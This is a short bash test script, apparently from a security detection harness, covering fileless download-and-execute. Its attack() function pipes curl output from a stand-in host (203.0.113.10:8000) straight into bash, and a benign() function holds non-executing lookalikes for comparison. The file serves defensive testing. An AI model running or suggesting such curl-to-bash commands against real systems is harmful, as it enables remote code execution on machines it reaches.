#!/usr/bin/env bash
# A script is downloaded, and run without becoming a file.
. "$(dirname "$0")/../lib/harness.sh"

prepare() { uplink 8000; }

# What arrives is no script, so the shell finds nothing that it could do.
attack() {
    curl -s http://203.0.113.10:8000/update | bash 2>/dev/null || true
}

benign() {
    curl -s http://203.0.113.10:8000/update | wc -c >/dev/null
    curl -s -o /srv/update http://203.0.113.10:8000/update
    bash -n /srv/update || true
}

record_command
